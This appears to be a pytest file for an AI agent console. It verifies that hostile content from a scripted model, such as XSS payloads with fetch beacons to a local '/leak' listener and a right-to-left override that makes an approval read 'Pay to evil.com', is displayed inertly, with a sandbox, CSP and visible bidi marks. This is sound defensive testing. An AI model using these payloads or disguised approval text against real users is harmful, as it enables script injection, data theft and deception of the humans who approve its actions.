"""Whatever a model, a page or a file says is text: nothing of it runs, and nothing of it leaves."""

from __future__ import annotations

import re
import socket
import unicodedata
from collections.abc import Iterator
from typing import Any

import pytest
from playwright.sync_api import Browser, expect

from auteryn import tool
from auteryn.console.files import files
from auteryn.policy.shown import TURNS, exact_json, unturned
from auteryn.testing.scripted import Ask, Line, Say, call
from auteryn.testing.world import World

NAME = "<img src=x onerror=window.owned=8>.md"


class Beacon:
    """A server elsewhere that hostile text wants to reach, and the text."""

    def __init__(self) -> None:
        self._listening = socket.create_server(("127.0.0.1", 0))
        self._listening.setblocking(False)
        url = f"http://127.0.0.1:{self._listening.getsockname()[1]}/leak"
        self.text = (
            f"<img src=x onerror=\"window.owned=1;fetch('{url}?a')\"><script>window.owned=2</script>"
            f'![pixel]({url}?b) [click](javascript:window.owned=3) <a href="{url}?c" ping="{url}?d">x</a>'
            f'<svg onload="window.owned=4"></svg><iframe src="{url}?e"></iframe><style>@import "{url}?f"</style>'
        )
        self.page = (
            f"<!doctype html><h1>Report</h1><script>parent.owned=5;top.owned=6;fetch('{url}?g')</script><img src='{url}?h'>"
        )
        image = f"<image href='{url}?i' width='9' height='9'/>"
        self.svg = f"<svg xmlns='http://www.w3.org/2000/svg' onload='window.owned=7'>{image}</svg>"

    def was_reached(self) -> bool:
        try:
            self._listening.accept()[0].close()
        except BlockingIOError:
            return False
        return True

    def close(self) -> None:
        self._listening.close()


@pytest.fixture
def beacon() -> Iterator[Beacon]:
    made = Beacon()
    yield made
    made.close()


def hostile(ask: Ask, beacon: Beacon) -> Line:
    match ask.turn:
        case 0:
            files = {NAME: beacon.text, "page.html": beacon.page, "picture.svg": beacon.svg}
            return Say(
                thoughts=beacon.text, calls=tuple(call("file_write", path=path, content=text) for path, text in files.items())
            )
        case 1:
            paths = (NAME, "page.html", "picture.svg")
            return [call("artifact_publish", path=path, title=beacon.text, description=beacon.text) for path in paths]
        case 2:
            return [
                call("note_write", section="found", text=beacon.text),
                call("ask_approval", message=beacon.text, options=["Yes", beacon.text]),
            ]
        case _:
            return beacon.text


@pytest.mark.proves("L14")
def test_nothing_that_is_shown_runs_or_leaves(window_of: Any, beacon: Beacon) -> None:
    async def before(world: World) -> None:
        await world.asked(await world.start(f"Task {beacon.text}"))

    window = window_of(lambda ask: hostile(ask, beacon), before=before)
    page = window.open()
    expect(page.locator(".ask")).to_be_visible()
    page.get_by_role("link", name="Task").first.click()
    for tab in ("files", "notes", "logs", "costs", "health"):
        page.locator(f"[data-tab={tab}]").click()
        expect(page.locator(".panel")).not_to_be_empty()
    page.locator("[data-tab=files]").click()
    for number in range(3):
        row = page.locator(".file-row").nth(number)
        row.click()
        expect(page.locator(".preview")).to_be_visible()
        frame = page.locator(".preview iframe")
        if frame.count():
            assert frame.get_attribute("sandbox") == ""
        row.click()
    page.locator(".asks .options button").last.click()
    expect(page.locator(".run-head .state")).to_have_text("Completed")
    expect(page.locator(".result .prose")).to_contain_text("<script>window.owned=2</script>")
    assert page.locator(".prose img, .prose iframe, .prose script, .prose a[href^=javascript]").count() == 0
    assert page.evaluate("window.owned") is None
    assert not beacon.was_reached()


@pytest.mark.proves("L14")
def test_the_page_allows_nothing_inline_and_nothing_from_elsewhere(window_of: Any) -> None:
    window = window_of(["hello"])
    answer = window.page.goto(window.url + "/")
    policy = answer.headers["content-security-policy"]
    assert "default-src 'none'" in policy and "unsafe" not in policy
    files = [address for address in window.asked if "/console/" in address]
    assert len(files) > 10
    for address in files:
        found = window.page.request.get(address)
        assert found.headers["cache-control"] == "public, max-age=31536000, immutable"
    assert window.page.request.get(files[0].replace("/console/", "/console/x")).status == 404


def test_without_scripts_the_same_is_there_as_plain_text(window_of: Any, chromium: Browser) -> None:
    async def before(world: World) -> None:
        await world.asked(await world.start("Ask me"))

    window = window_of(lambda ask: call("ask_approval", message="Go?", options=["Yes", "No"]), before=before)
    run = window.run("Ask me")
    state = window.context.storage_state()
    plain = chromium.new_context(java_script_enabled=False, storage_state=state)
    page = plain.new_page()
    page.goto(window.url + "/")
    page.get_by_role("link", name="runs").click()
    expect(page.locator("body")).to_contain_text("Ask me")
    page.goto(f"{window.url}/runs/{run}.txt")
    expect(page.locator("body")).to_contain_text("Options: Yes, No")
    plain.close()


TURNING = {"LRE", "RLE", "LRO", "RLO", "PDF", "LRI", "RLI", "FSI", "PDI"}
LETTERLESS = "\u061c\u200e\u200f"
"""What is between them and their neighbours turns as beside a letter that nobody sees."""
TURNED = "Pay to \u202emoc.live\u202c"
"""Reads "Pay to evil.com" where the mark is obeyed."""


def turning(ask: Ask) -> Line:
    return (
        "done"
        if ask.turn
        else [call("ask_approval", message=TURNED, options=["\u2066Yes\u2069", "No"]), call("pay", to=TURNED)]
    )


@tool(effect="once", permission="ask")
def pay(to: str) -> str:
    """Pay somebody."""
    return to


@pytest.mark.proves("L14")
def test_where_somebody_decides_no_mark_turns_words_round(window_of: Any) -> None:
    async def asked(world: World) -> None:
        await world.until(await world.start("Pay"), lambda run: len(run.asks) == 2)

    window = window_of(turning, before=asked, tools=[pay])
    page = window.open(f"/runs/{window.run('Pay')}")
    cards = page.locator(".asks .ask")
    expect(cards).to_have_count(2)
    expect(cards.filter(has_text="Wants your decision")).to_contain_text("Pay to \ufffdmoc.live\ufffd")
    expect(cards.get_by_role("button", name="\ufffdYes\ufffd")).to_be_visible()
    gate = cards.filter(has_text="Exactly this would be done")
    expect(gate.locator("pre")).to_contain_text(r"Pay to \u202emoc.live\u202c")
    assert not set(cards.all_inner_texts()[0] + cards.all_inner_texts()[1]) & set("\u202e\u202c\u2066\u2069")
    gate.get_by_role("button", name="Change").click()
    expect(gate.locator("textarea")).to_have_value(re.compile(r"\\u202emoc"))


@pytest.mark.proves("L14")
def test_the_console_and_what_has_no_scripts_show_hidden_signs_alike(window_of: Any) -> None:
    page = window_of(["hello"]).page
    assert {sign for sign in map(chr, range(0x3000)) if unicodedata.bidirectional(sign) in TURNING} == set(TURNS) - set(
        LETTERLESS
    )
    text = "".join(f"a{chr(number)}b" for number in (*range(0x20, 0x3000), 0xFEFF, 0x1F600, 0xE0041))
    read = "([at, text]) => import(at).then(words => [words.unturned(text), words.json({ said: text })])"
    assert page.evaluate(read, [files().address("words.js"), text]) == [unturned(text), exact_json({"said": text})]
